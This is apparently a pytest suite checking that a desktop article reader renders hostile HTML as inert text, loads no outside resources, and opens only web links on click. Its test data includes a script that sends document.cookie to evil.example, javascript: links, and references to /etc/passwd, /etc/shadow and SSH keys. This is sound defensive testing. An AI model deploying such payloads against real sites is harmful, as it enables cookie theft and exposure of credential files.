"""Hostile HTML reaches the reading pane as text: nothing runs, nothing outside the library loads,
web links open in the system browser only on a click, file: and javascript: links never."""

from __future__ import annotations

import base64

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices, QTextCursor

from reader import ingest
from reader.model import IMAGE, PARAGRAPH, Article, Block
from reader.ui.reading_pane import ReadingPane

HOSTILE = [
    '<img src="http://tracker.example/pixel.gif?u=1">',
    '<img src=http://tracker.example/unquoted.png onerror="alert(1)">',
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="javascript:alert(document.domain)">click me</a>',
    '<a href="file:///etc/passwd">passwords</a>',
    '<link rel="stylesheet" href="https://evil.example/style.css">',
    '<style>@import url("https://evil.example/x.css"); body { background: url(file:///etc/shadow) }</style>',
    '<div style="background-image: url(https://evil.example/bg.png)" onmouseover="alert(2)">hover</div>',
    '<object data="file:///home/user/.ssh/id_rsa"></object><embed src="https://evil.example/e.swf">',
    '<img src="data:image/png;base64,' + base64.b64encode(b"\x89PNG" + b"\x00" * 3000).decode() + '">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<svg onload="alert(3)"><image href="https://evil.example/svg.png"/></svg>',
]

PAGE = ("<!doctype html><html><head><title>Hostile page</title>" + HOSTILE[6] + HOSTILE[7] + HOSTILE[11]
        + "</head><body><article><h1>Hostile page</h1>"
        + "".join(f"<p>Paragraph {i} with enough words to be kept as body text by any cleaner. {h}</p>"
                  for i, h in enumerate(HOSTILE))
        + '<p>A <a href="https://example.org/ok">web link</a> in the text.</p>'
        + "</article></body></html>")


@pytest.fixture
def pane(qtbot, monkeypatch):
    asked = []
    real = ReadingPane.loadResource

    def recording(self, type_, name):
        asked.append(name.toString())
        return real(self, type_, name)

    monkeypatch.setattr(ReadingPane, "loadResource", recording)
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()) or True)
    p = ReadingPane()
    qtbot.addWidget(p)
    p.resize(700, 900)
    p.show()
    qtbot.waitExposed(p)
    p.asked, p.opened = asked, opened
    return p


def _anchors(pane):
    """Every link target in the shown document."""
    doc = pane.document()
    found = set()
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isAnchor() and fmt.anchorHref():
                found.add(fmt.anchorHref())
            it += 1
        block = block.next()
    return found


def _outside(urls):
    return [u for u in urls if not u.startswith(("reader-resource:", "#", "reader-"))]


def test_hostile_text_is_shown_as_text_and_nothing_is_loaded(qtbot, pane):
    article = Article(
        id=1, title='<script>alert("title")</script> Hostile', source="<b>src</b>",
        url="javascript:alert(1)", blocks=[Block(PARAGRAPH, h) for h in HOSTILE]
        + [Block(IMAGE, "", src="http://tracker.example/image.png"), Block(IMAGE, "", src="file:///etc/passwd"),
           Block(IMAGE, "", src="//evil.example/x.png"), Block(IMAGE, "", src="figure-1.png")],
    )
    pane.show_article(article)
    pane.repaint()
    qtbot.wait(50)
    text = pane.plain_text()
    for h in HOSTILE[:10]:
        assert h[:40] in text  # the markup is there to read, as text
    pane.document().documentLayout().documentSize()  # lays out every block, images included
    qtbot.waitUntil(lambda: any(u.startswith("reader-resource:") for u in pane.asked), timeout=3000)  # hook works
    assert _outside(pane.asked) == []  # never asked for http:, https:, file: or data:
    assert _outside(_anchors(pane)) == []  # no live link came from the article's text
    assert pane.opened == []


def test_an_imported_hostile_page_renders_without_loading_anything(qtbot, pane):
    cleaned, _original = ingest.ingest(PAGE.encode(), "hostile.html")
    article = Article(id=1, title=cleaned.title, blocks=cleaned.blocks, url=cleaned.url)
    pane.show_article(article)
    pane.repaint()
    qtbot.wait(50)
    assert "Paragraph 3" in pane.plain_text()
    assert _outside(pane.asked) == []
    assert not any(u.startswith(("javascript:", "file:")) for u in _anchors(pane))
    assert pane.opened == []


@pytest.mark.parametrize("url, opens", [
    ("https://example.org/a", True), ("http://example.org/b", True),
    ("javascript:alert(1)", False), ("file:///etc/passwd", False), ("data:text/html,<script>x</script>", False),
    ("ftp://example.org/f", False), ("reader-resource:x.png", False),
])
def test_only_web_links_open_and_only_on_a_click(qtbot, pane, url, opens):
    pane.setHtml(f'<p><a href="{url}">link</a></p>')
    qtbot.wait(20)
    assert pane.opened == []  # shown, not opened
    cursor = QTextCursor(pane.document())
    cursor.setPosition(1)
    pane.anchorClicked.emit(QUrl(url))  # what a click on the link emits
    assert pane.opened == ([QUrl(url).toString()] if opens else [])
